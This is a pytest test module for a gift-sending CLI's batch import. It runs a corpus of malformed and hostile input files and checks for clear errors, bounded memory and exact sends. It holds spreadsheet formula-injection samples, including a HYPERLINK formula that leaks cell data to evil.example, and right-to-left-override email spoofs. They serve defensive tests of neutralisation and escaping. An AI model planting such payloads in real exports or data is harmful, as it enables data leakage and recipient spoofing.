"""The hostile input corpus (tests/data/hostile/, written by scripts/make_hostile_corpus.py).

Every file goes through the library (``Source`` and a dry-run plan) and through the CLI
(``sendoso batch run FILE --dry-run``, then a real run against the sandbox): it gives a clear
error naming the row or column, or one verdict per row; the exit code says which; there is
never a traceback; memory stays bounded; and the sandbox receives exactly the valid rows.
"""

from __future__ import annotations

import csv
import gzip
import json
import os
import re
import subprocess
import sys
import threading
import tracemalloc
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Protocol

import pytest
from tests.conftest import Sandbox
from typer.testing import CliRunner, Result

from sendoso.batch import BatchSpec, RowState, Source, SourceError, dry_run
from sendoso.cli import app
from sendoso.models import Gift

ROOT = Path(__file__).resolve().parents[2]
CORPUS = ROOT / "tests" / "data" / "hostile"
SCRIPT = ROOT / "scripts" / "make_hostile_corpus.py"
BASE_URL = "http://127.0.0.1:8000"
#: tracemalloc peak allowed while reading and planning any one file. The largest files
#: (10 MB of message) are refused or skipped after at most 4 MB of one record is held.
MEMORY_BOUND = 48 * 1024 * 1024
#: The committed corpus stays small: big cells are committed gzipped.
CORPUS_BOUND = 1024 * 1024


@dataclass(frozen=True)
class Expect:
    """What a run must make of a file: a refusal (``error`` matched against the message,
    ``error_row`` its row) or these verdicts; every other row is ``planned``."""

    error: str | None = None
    error_row: int | None = None
    rows: tuple[int, ...] = ()
    invalid: dict[int, str] = field(default_factory=dict)
    duplicate: tuple[int, ...] = ()

    @property
    def planned(self) -> set[int]:
        return set(self.rows) - set(self.invalid) - set(self.duplicate)

    @property
    def exit_code(self) -> int:
        return 2 if self.error or self.invalid else 0


NOT_TEXT = r"is not a text file; export it as CSV \(UTF-8\) or JSON Lines"
TOO_LONG_ROW = r"row 2 is longer than 4,194,304 characters"

EXPECTED: dict[str, Expect] = {
    "bom_utf8.csv": Expect(rows=(2, 3)),
    "bom_utf16le.txt": Expect(rows=(2, 3)),
    "bom_utf16be.csv": Expect(rows=(2, 3)),
    "utf16le_no_bom.csv": Expect(error=NOT_TEXT),
    "mixed_encodings.csv": Expect(
        error=r"is not UTF-8 text \(row 4\); save it as 'CSV UTF-8' or pass (--)?encoding",
        error_row=4,
    ),
    "latin1.csv": Expect(error=r"is not UTF-8 text \(row 3\)", error_row=3),
    "nul_in_cell.csv": Expect(
        rows=(2, 3, 4), invalid={3: r"column 'First Name' contains a NUL character \(row 3\)"}
    ),
    "nul_in_header.csv": Expect(error=NOT_TEXT),
    "cell_1mb.csv.gz": Expect(
        rows=(2, 3),
        invalid={2: r"column 'Message' is 1,048,576 characters; the limit is 10,000 \(row 2\)"},
    ),
    "columns_100k.csv.gz": Expect(
        error=r"the header row \(row 1\) has 100,000 columns; the limit is 16,384",
        error_row=1,
    ),
    "unbalanced_quotes.csv": Expect(
        rows=(2, 3, 4, 5),
        invalid={
            4: r"this row has 3 cells but the header has 5; a quote \(\"\) may be left unclosed"
        },
    ),
    "unclosed_quote.csv": Expect(
        error=r"row 4 opens a quote \(\"\) that is never closed", error_row=4
    ),
    "stray_quotes.csv": Expect(rows=(2, 3, 4)),
    "formula_cells.csv": Expect(
        rows=(2, 3, 4, 5, 6), invalid={5: r"email '=1\+2' is not valid: .* \(row 5\)"}
    ),
    "homoglyph_rtl_emails.csv": Expect(
        rows=tuple(range(2, 13)),
        invalid={
            5: r"email contains control or direction-override characters \(row 5\)",
            6: r"email contains control or direction-override characters \(row 6\)",
            7: r"email 'ada\\u200b@example.com' is not valid: .*ZERO WIDTH SPACE",
            8: r"full-width.* at-sign",
            9: r"first_name contains control or direction-override characters \(row 9\)",
        },
        duplicate=(11, 12),
    ),
    "duplicate_headers.csv": Expect(
        error=r"the header has 'Email' more than once.*(--map|mapping) FIELD=COLUMN", error_row=1
    ),
    "empty.csv": Expect(error=r"empty\.csv is empty; it has no header row"),
    "header_only.csv": Expect(),
    "not_text.png": Expect(error=NOT_TEXT),
    "workbook.xlsx": Expect(error=r"looks like an Excel workbook; save it as 'CSV UTF-8' first"),
    "crlf.csv": Expect(rows=(2, 3)),
    "cr_only.csv": Expect(rows=(2, 3)),
    "mixed_line_endings.csv": Expect(rows=(2, 3, 4)),
    "broken.jsonl": Expect(
        rows=(1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 15),
        invalid={
            2: r"this line is not valid JSON: Expecting value \(column 1\) \(row 2\)",
            3: r"this line is a JSON string, not an object of named fields \(row 3\)",
            4: r"this line is a JSON list, not an object",
            5: r"this line is a JSON string, not an object",
            6: r"this line is a JSON value, not an object",
            9: r"email '12345678901234567890123' is not valid",
            10: r"this line is not valid JSON \(row 10\)",
            11: r"key 'message' contains an unpaired surrogate escape \(row 11\)",
            12: r"key 'message' contains a NUL character \(row 12\)",
            13: r"key 'tags' holds a JSON list",
        },
    ),
    "long_line.csv.gz": Expect(error=TOO_LONG_ROW, error_row=2),
    "long_line.jsonl.gz": Expect(
        rows=(1, 2, 3), invalid={2: r"this line is longer than 4,194,304 characters \(row 2\)"}
    ),
    "many_keys.jsonl.gz": Expect(
        rows=(1, 2, 3),
        invalid={
            2: r"this line has more than 16,384 keys; write only the fields you need \(row 2\)"
        },
    ),
    "message_10mb.csv.gz": Expect(error=TOO_LONG_ROW, error_row=2),
    "message_10mb.jsonl.gz": Expect(
        rows=(1, 2), invalid={2: r"this line is longer than 4,194,304 characters \(row 2\)"}
    ),
}


def unpacked(name: str, directory: Path) -> Path:
    """The corpus file as a user would have it: ``.gz`` files decompressed."""
    source = CORPUS / name
    if not name.endswith(".gz"):
        return source
    target = directory / name.removesuffix(".gz")
    target.write_bytes(gzip.decompress(source.read_bytes()))
    return target


@pytest.fixture
def catalog(sandbox: Sandbox) -> list[Gift]:
    with sandbox.client() as client:
        return client.gifts.list()


# --- the corpus itself ----------------------------------------------------------------


def test_every_corpus_file_has_an_expectation() -> None:
    committed = {p.name for p in CORPUS.iterdir()} - {"README.md"}
    assert committed == set(EXPECTED)


def test_the_script_reproduces_the_committed_corpus(tmp_path: Path) -> None:
    """Plain files byte for byte; gzipped ones by content (the packed bytes depend on the
    zlib build, the unpacked ones do not)."""
    subprocess.run(
        [sys.executable, str(SCRIPT), "--out", str(tmp_path)], check=True, capture_output=True
    )
    generated = sorted(p.name for p in tmp_path.iterdir())
    assert generated == sorted(p.name for p in CORPUS.iterdir())
    for name in generated:
        made, committed = (tmp_path / name).read_bytes(), (CORPUS / name).read_bytes()
        if name.endswith(".gz"):
            assert gzip.decompress(made) == gzip.decompress(committed), name
        else:
            assert made == committed, name
    assert sum(p.stat().st_size for p in CORPUS.iterdir()) < CORPUS_BOUND


# --- through the library --------------------------------------------------------------


def plan_file(path: Path, catalog: list[Gift], encoding: str | None = None) -> dict[int, Any]:
    """Dry-run plan of ``path``: every row's ledger record by number."""
    summary, scratch, run_id = dry_run(
        BatchSpec(path=str(path), encoding=encoding), catalog, history=None, base_url=BASE_URL
    )
    with scratch:
        rows = {row.number: row for row in scratch.rows(run_id)}
    assert summary.rows == len(rows)
    return rows


@pytest.mark.parametrize("name", sorted(EXPECTED))
def test_library_gives_an_error_or_one_verdict_per_row(
    name: str, tmp_path: Path, catalog: list[Gift]
) -> None:
    expect = EXPECTED[name]
    path = unpacked(name, tmp_path)
    tracemalloc.start()
    try:
        if expect.error:
            with pytest.raises(SourceError) as caught:
                plan_file(path, catalog)
        else:
            rows = plan_file(path, catalog)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < MEMORY_BOUND, f"{name}: {peak:,} bytes"
    if expect.error:
        assert re.search(expect.error, str(caught.value)), str(caught.value)
        assert caught.value.row == expect.error_row
        return
    assert sorted(rows) == list(expect.rows)
    planned = {n for n, r in rows.items() if r.state is RowState.PLANNED}
    assert planned == expect.planned
    for number, pattern in expect.invalid.items():
        row = rows[number]
        assert (row.state, row.skip_kind) == (RowState.SKIPPED, "invalid"), number
        assert re.search(pattern, row.error or ""), row.error
    assert {n for n, r in rows.items() if r.skip_kind == "duplicate"} == set(expect.duplicate)


def test_latin1_reads_with_its_encoding(tmp_path: Path, catalog: list[Gift]) -> None:
    rows = plan_file(CORPUS / "latin1.csv", catalog, encoding="latin-1")
    assert {n: r.state for n, r in rows.items()} == {2: RowState.PLANNED, 3: RowState.PLANNED}
    assert rows[3].name == "José Muñoz"


def test_a_line_over_the_limit_never_becomes_rows_of_its_pieces(tmp_path: Path) -> None:
    """Regression: a line longer than the record limit was cut where the limit fell and its
    rest read as the next row (a row that could be valid and sent), shifting every later
    row number."""
    path = tmp_path / "split.csv"
    limit = 4 * 1024 * 1024
    head = "First Name,Email,Message\n"
    first = "Ada,ada@example.com,"
    filler = "x" * (limit - len(first) - len(",Bob"))
    path.write_text(head + first + filler + ",Bob,bob@example.com,Hi\nCy,cy@example.com,Yo\n")
    seen: list[int] = []
    with pytest.raises(SourceError, match="row 2 is longer than 4,194,304 characters") as caught:
        seen.extend(r.number for r in Source(path).rows())
    assert caught.value.row == 2
    assert seen == []


def test_a_header_of_millions_of_empty_columns_is_refused_in_bounded_memory(
    tmp_path: Path,
) -> None:
    """Regression: a header of 1,000,000 delimiters took 228 MB and 14 s to open (an object
    per column); now the column count is capped at what a spreadsheet can hold."""
    path = tmp_path / "commas.csv"
    path.write_text("Email" + "," * 4_000_000 + "\nada@example.com\n")
    tracemalloc.start()
    try:
        with pytest.raises(SourceError, match="has 4,000,001 columns; the limit is 16,384"):
            Source(path).open()
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < MEMORY_BOUND


def test_a_row_of_millions_of_cells_is_one_invalid_row(tmp_path: Path) -> None:
    path = tmp_path / "cells.csv"
    path.write_text("Email,Name\na@example.com" + "," * 4_000_000 + "x\nb@example.com,B\n")
    tracemalloc.start()
    try:
        first, second = Source(path).rows()
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert first.problems[0].message.startswith("this row has 4,000,001 cells")
    assert second.fields == {"email": "b@example.com"}
    assert peak < MEMORY_BOUND


def test_jsonl_records_with_thousands_of_distinct_keys_stay_bounded(tmp_path: Path) -> None:
    """Regression: the per-key-set mapping cache held up to 256 key sets of any size, so
    records with thousands of distinct keys each piled up without bound."""
    path = tmp_path / "wide.jsonl"
    with path.open("w") as out:
        for line in range(20):
            keys = ",".join(f'"k{line}_{k}": 1' for k in range(16_000))
            out.write(f'{{"email": "a{line}@example.com", {keys}}}\n')
    tracemalloc.start()
    try:
        count = sum(1 for row in Source(path).rows() if row.fields)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert count == 20
    assert peak < MEMORY_BOUND


@pytest.mark.parametrize("kind", ["fifo", "device", "directory"])
def test_a_file_that_is_not_a_regular_file_is_refused(kind: str, tmp_path: Path) -> None:
    """Regression: /dev/zero was read for ever (the fingerprint hashes the whole file) and a
    named pipe blocked on opening; neither could be read twice anyway."""
    if kind == "fifo":
        path = tmp_path / "pipe.csv"
        os.mkfifo(path)
    elif kind == "device":
        path = Path("/dev/zero")
    else:
        path = tmp_path
    for step in (Source(path).fingerprint, Source(path).open):
        outcome: list[BaseException | None] = []

        def attempt(step: Callable[[], object] = step, outcome: list[Any] = outcome) -> None:
            try:
                step()
            except BaseException as exc:
                outcome.append(exc)
            else:
                outcome.append(None)

        # In a daemon thread: should this regress, the test fails instead of hanging.
        worker = threading.Thread(target=attempt, daemon=True)
        worker.start()
        worker.join(30)
        assert outcome, f"{kind}: still reading after 30 s"
        assert isinstance(outcome[0], SourceError), outcome
        assert "is not a regular file; save the data to a file" in str(outcome[0])


# --- through the CLI ------------------------------------------------------------------


@pytest.fixture
def sendoso(sandbox: Sandbox, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Invoke:
    """``sendoso ARGS`` in-process against the sandbox, with a fresh ledger; fails on any
    exception other than a clean exit and on a traceback in the output."""
    monkeypatch.setenv("SENDOSO_BASE_URL", sandbox.url)
    monkeypatch.setenv("SENDOSO_CLIENT_ID", sandbox.client_id)
    monkeypatch.setenv("SENDOSO_CLIENT_SECRET", sandbox.client_secret)
    monkeypatch.setenv("COLUMNS", "300")
    runner = CliRunner()
    ledger = f"sqlite:///{tmp_path}/ledger.db"

    def invoke(*args: str) -> Result:
        result = runner.invoke(app, [*args, "--ledger", ledger])
        if result.exception is not None and not isinstance(result.exception, SystemExit):
            raise result.exception
        assert "Traceback" not in result.stdout + result.stderr
        return result

    return invoke


class Invoke(Protocol):
    def __call__(self, *args: str) -> Result: ...


def sent_rows(sandbox: Sandbox) -> set[int]:
    return {int(s["request_body"]["send"]["metadata"]["sendoso_row"]) for s in sandbox.sends()}


@pytest.mark.parametrize("name", sorted(EXPECTED))
def test_cli_dry_run_then_run(name: str, tmp_path: Path, sendoso: Invoke, sandbox: Sandbox) -> None:
    expect = EXPECTED[name]
    path = str(unpacked(name, tmp_path))

    dry = sendoso("batch", "run", path, "--dry-run")
    assert dry.exit_code == expect.exit_code, dry.stdout + dry.stderr
    if expect.error:
        # One short message on stderr, naming the row where there is one.
        message = " ".join(dry.stderr.split())
        assert re.search(expect.error, message), message
        assert len(dry.stderr) < 1000
    else:
        assert "Dry run plan" in dry.stdout
        assert re.search(rf"To send\W+{len(expect.planned)}\b", dry.stdout), dry.stdout

    as_json = sendoso("batch", "run", path, "--dry-run", "--json")
    assert as_json.exit_code == expect.exit_code
    document = json.loads(as_json.stdout)
    if expect.error:
        assert re.search(expect.error, document["error"]["message"])
        assert document["error"]["exit_code"] == 2
    else:
        assert (document["rows"], document["to_send"]) == (len(expect.rows), len(expect.planned))
        skipped = {r["row"]: r["reason"] for r in document["skipped_rows"]}
        invalid = dict.fromkeys(expect.invalid, "invalid")
        assert skipped == invalid | dict.fromkeys(expect.duplicate, "duplicate")
    assert sandbox.sends() == []

    real = sendoso("batch", "run", path, "--yes", "--run-id", "hostile")
    assert real.exit_code == expect.exit_code, real.stdout + real.stderr
    assert sent_rows(sandbox) == expect.planned


@pytest.mark.parametrize(
    ("extra", "message"),
    [
        (["--encoding", "base64"], "--encoding 'base64' is not a text encoding"),
        (["--encoding", "utf-16"], r"is not valid utf-16 text \(row 1\); check --encoding"),
        (["--encoding", "klingon"], "unknown --encoding 'klingon'"),
        (["--delimiter", ";;"], "--delimiter must be one character"),
    ],
)
def test_cli_hostile_options_are_clear_errors(
    extra: list[str], message: str, sendoso: Invoke, sandbox: Sandbox
) -> None:
    result = sendoso("batch", "run", str(CORPUS / "bom_utf8.csv"), "--dry-run", *extra)
    assert result.exit_code == 2
    assert re.search(message, " ".join(result.stderr.split())), result.stderr
    assert sandbox.sends() == []


def test_cli_refuses_a_device_without_reading_it(sendoso: Invoke, sandbox: Sandbox) -> None:
    result = sendoso("batch", "run", "/dev/zero", "--dry-run")
    assert result.exit_code == 2
    assert "/dev/zero is not a regular file" in result.stderr


def test_formula_cells_are_neutralised_in_the_report(
    tmp_path: Path, sendoso: Invoke, sandbox: Sandbox
) -> None:
    path = str(CORPUS / "formula_cells.csv")
    assert sendoso("batch", "run", path, "--yes", "--run-id", "f").exit_code == 2
    out = tmp_path / "report.csv"
    assert sendoso("batch", "report", "f", "--out", str(out)).exit_code == 0
    with out.open(newline="", encoding="utf-8") as f:
        header, *lines = list(csv.reader(f))
    cells = [cell for line in lines for cell in line]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    by_row = {int(line[0]): dict(zip(header, line, strict=True)) for line in lines}
    assert by_row[2]["name"].startswith("'=HYPERLINK(")
    assert by_row[3]["recipient"] == "'-2+3@example.com"
    assert by_row[4]["name"] == "'@SUM(A1:A9) =1+1"
    assert by_row[5]["recipient"] == "'=1+2"
    assert (by_row[5]["state"], by_row[5]["reason"]) == ("skipped", "invalid")
    assert by_row[6]["recipient"] == "'+eve@example.com"
    # What was sent is the data as written: neutralising is for the report only.
    names = {s["request_body"]["send"]["first_name"] for s in sandbox.sends()}
    assert '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")' in names


def test_hidden_characters_are_shown_escaped_in_the_report_and_the_table(
    tmp_path: Path, sendoso: Invoke, sandbox: Sandbox
) -> None:
    """A right-to-left override makes "\u202emoc.elpmaxe@ada" display as ada@example.com in a
    spreadsheet or a terminal; the report and `batch show` write it as an escape instead."""
    path = str(CORPUS / "homoglyph_rtl_emails.csv")
    assert sendoso("batch", "run", path, "--yes", "--run-id", "rtl").exit_code == 2
    out = tmp_path / "report.csv"
    assert sendoso("batch", "report", "rtl", "--out", str(out)).exit_code == 0
    report = out.read_text(encoding="utf-8")
    shown = sendoso("batch", "show", "rtl", "--state", "skipped")
    assert shown.exit_code == 0, shown.stderr
    for text in (report, shown.stdout):
        assert "\\u202e" in text
        assert not re.search("[\u202a-\u202e\u2066-\u2069\x1b]", text)


def test_look_alike_addresses_are_distinct_recipients(tmp_path: Path, catalog: list[Gift]) -> None:
    """A Cyrillic a (U+0430) makes another address, so it is not a duplicate of the Latin one; an
    NFD-decomposed or upper-case spelling of an address is the same address."""
    rows = plan_file(CORPUS / "homoglyph_rtl_emails.csv", catalog)
    recipients = {n: rows[n].recipient for n in (2, 3, 4, 10)}
    assert len(set(recipients.values())) == 4
    assert "duplicate" not in {rows[n].skip_kind for n in (3, 4)}
    assert (rows[11].error or "").startswith("zoë@example.com already gets")
    assert (rows[12].error or "").startswith("ada@example.com already gets")
